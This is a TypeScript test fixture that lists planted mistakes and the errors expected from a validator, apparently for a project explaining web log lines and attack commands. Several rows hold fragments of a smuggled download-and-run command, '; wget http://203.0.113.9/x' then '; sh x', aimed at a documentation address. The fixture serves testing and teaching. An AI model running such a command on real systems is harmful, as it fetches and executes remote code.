import type { MistakeRow } from '../good-project.ts';

/** Viewpoints, requests, excerpts, commands and the list of real hosts. */
export const SHEET_MISTAKES: readonly MistakeRow[] = [
  {
    name: 'a viewpoint under another name',
    slips: [['viewpoints/user-agent.yaml', 'id: user-agent', 'id: header']],
    says: [
      'content/viewpoints/user-agent.yaml:1:5 id: found "header"; expected "user-agent", the name of the file',
    ],
  },
  {
    name: 'a seal of two characters',
    slips: [['viewpoints/user-agent.yaml', 'glyph: 名', 'glyph: 名前']],
    says: ['content/viewpoints/user-agent.yaml:2:8 glyph: found "名前"; expected one kanji'],
  },
  {
    name: 'a hue off the wheel',
    slips: [['viewpoints/user-agent.yaml', 'hue: 150', 'hue: 400']],
    says: ['content/viewpoints/user-agent.yaml:3:6 hue: found 400; expected at most 359'],
  },
  {
    name: "a request whose nginx line is another program's",
    slips: [
      [
        'requests/zgrab.yaml',
        "nginx: '192.0.2.18 - - [24/Nov/2026:04:26:48 +0000]",
        "nginx: '[24/Nov/2026:04:26:48 +0000]",
      ],
    ],
    says: [
      'content/requests/zgrab.yaml:8:9 nginx: found "[24/Nov/2026:04:26:48 +0000] \\"GET / HTTP/1.1\\" 2…"; expected a source address here',
    ],
  },
  {
    name: 'a line of an excerpt that does not read',
    slips: [['excerpts/two-visitors.yaml', '198.51.100.7 - - [24', '198.51.100.7 - - 24']],
    says: [
      'content/excerpts/two-visitors.yaml:4:20 lines: found "24/Nov/2026:04:26:51 +0000] \\"GET /robots.txt HT…"; expected a time here, as in a combined line',
    ],
  },
  {
    name: 'an excerpt of one line',
    slips: [
      [
        'excerpts/two-visitors.yaml',
        '  198.51.100.7 - - [24/Nov/2026:04:26:51 +0000] "GET /robots.txt HTTP/1.1" 404 153 "-" "-"\n',
        '',
      ],
    ],
    says: ['content/excerpts/two-visitors.yaml:2:8 lines: found 1 line; expected 2 to 60 lines'],
  },
  {
    name: 'a real address in an excerpt',
    slips: [['excerpts/two-visitors.yaml', '  198.51.100.7 ', '  8.8.8.8 ']],
    says: [
      'content/excerpts/two-visitors.yaml:4:3 lines: found the real address "8.8.8.8"; expected a documentation address: 192.0.2.x, 198.51.100.x or 203.0.113.x (RFC 5737)',
    ],
  },
  {
    name: 'a real host in an excerpt, where only a User-Agent may carry it',
    slips: [['excerpts/two-visitors.yaml', '/robots.txt HTTP', '/?u=https://about.censys.io/ HTTP']],
    says: [
      'content/excerpts/two-visitors.yaml:4:66 lines: found the real host "about.censys.io"; expected a reserved name: example.com, anything.example (RFC 2606) (content/real-hosts.yaml allows it inside a User-Agent only)',
    ],
  },
  {
    name: 'an unfinished title of an excerpt',
    slips: [['excerpts/two-visitors.yaml', 'en: Two visitors', 'en: TODO']],
    says: ['content/excerpts/two-visitors.yaml:1:25 title.en: found "TODO"; expected a finished text'],
  },
  {
    name: 'a piece of a command that no part explains',
    slips: [['commands/fetch-and-run.yaml', 'text: wget http', 'text: http']],
    says: [
      'content/commands/fetch-and-run.yaml:2:17 command: found "; wget ", which no part explains; expected parts that are the whole command',
    ],
  },
  {
    name: 'a part that does not stand in the command',
    slips: [['commands/fetch-and-run.yaml', 'text: sh x', 'text: sh y']],
    says: [
      'content/commands/fetch-and-run.yaml:6:13 parts.2.text: found "sh y"; expected a piece of what is left of the command, "; sh x"',
    ],
  },
  {
    name: 'a real address in a command',
    slips: [
      ['commands/fetch-and-run.yaml', '; wget http://203.0.113.9/x', '; wget http://8.8.8.8/x'],
      ['commands/fetch-and-run.yaml', 'text: wget http://203.0.113.9/x', 'text: wget http://8.8.8.8/x'],
    ],
    says: [
      'content/commands/fetch-and-run.yaml:2:31 command: found the real address "8.8.8.8"; expected a documentation address: 192.0.2.x, 198.51.100.x or 203.0.113.x (RFC 5737)',
    ],
  },
  {
    name: 'a real host without a reason',
    slips: [
      ['real-hosts.yaml', '    why: { ja: 調査の説明のページです。, en: It explains the survey. }\n', ''],
    ],
    says: [
      'content/real-hosts.yaml:2:5 hosts.0.why: found nothing; expected a map of keys and values',
      'exercises/user-agent/censys.yaml:6:224 line.raw: found the real host "about.censys.io"; expected a reserved name: example.com, anything.example (RFC 2606) (a host that belongs to a published User-Agent goes into content/real-hosts.yaml)',
    ],
  },
];
